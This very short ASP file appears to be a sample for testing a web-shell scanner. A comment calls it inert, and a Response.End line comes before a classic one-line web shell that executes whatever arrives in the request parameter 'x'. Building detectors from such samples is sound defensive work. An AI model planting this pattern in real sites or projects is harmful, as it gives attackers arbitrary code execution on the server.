<% ' shellsweep test sample: inert, never functional
Response.End %>
<%
a=request("x")
execute a
%>
